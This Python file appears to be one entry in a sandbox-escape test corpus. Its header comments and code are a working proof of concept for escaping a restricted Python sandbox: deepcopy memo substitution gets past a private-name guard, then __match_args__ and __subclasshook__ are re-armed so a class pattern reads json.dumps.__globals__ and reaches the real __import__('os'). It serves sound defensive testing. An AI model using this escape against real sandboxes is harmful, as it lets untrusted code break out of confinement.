# technique: copy._reconstruct's guard checks the slot-state names ('_a', '_b': private, accepted) before copy deep-copies that state through the caller's memo, which maps the interned '_a'/'_b' to any names (check-then-use, as in 188); the args are mapped too: copyreg.__newobj__(cls) with cls swapped for an instance whose class's __new__ returns a snippet class, so y is the class itself; copy then setattr(Target, '__match_args__', ('__globals__',)) and setattr(Target, '__subclasshook__', classmethod(...)) after the class guard has seen it: Target is an abc.ABC, so every object is an instance, and `case Target(g)` reads f.__globals__ by the re-armed __match_args__
# source: 188 (deepcopy memo substitution) applied to copy's slot-state setattr instead of the reduce func; class-pattern positional reads by __match_args__ (guarded only at class creation) + ABCMeta.__subclasshook__ isinstance
# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import abc
import copy
import json


class Target(abc.ABC):
    pass


class Factory:
    # copyreg.__newobj__(cls) calls cls.__new__(cls): with cls swapped for
    # a Factory instance, that is Factory.__new__(instance) -> Target itself
    def __new__(cls, *a):
        if cls is Factory:
            return object.__new__(Factory)
        return Target


class Slotted:
    __slots__ = ('_a', '_b')

    def fill(self, a, b):
        self._a = a
        self._b = b


def set_attrs(obj_factory, names_values):
    # object.__reduce_ex__(4) of a slotted instance:
    #   (copyreg.__newobj__, (Slotted,), (None, {'_a': va, '_b': vb}))
    # the guard checks the slot names '_a'/'_b' (private: accepted), then
    # copy deep-copies the state through the caller's memo, which maps the
    # interned '_a'/'_b' to any names
    s = Slotted()
    s.fill(names_values[0][1], names_values[1][1])
    memo = {id(Slotted): obj_factory, id('_a'): names_values[0][0], id('_b'): names_values[1][0],
            id(names_values[0][1]): names_values[0][1], id(names_values[1][1]): names_values[1][1]}
    return copy.deepcopy(s, memo)


def hook(cls, C):
    return True


y = set_attrs(Factory(), [(dn('match_args'), (dn('globals'),)),
                          (dn('subclasshook'), classmethod(hook))])
print('copy returned the class itself:', y is Target)


def read_globals(f):
    match f:
        case Target(g):
            return g
    return None


g = read_globals(json.dumps)
if check('json.dumps globals via a class pattern on a re-armed __match_args__', g):
    b = g[dn('builtins')]
    check('real builtins', b)
    attempt('os through the real __import__', lambda: b[dn('import')]('os'))
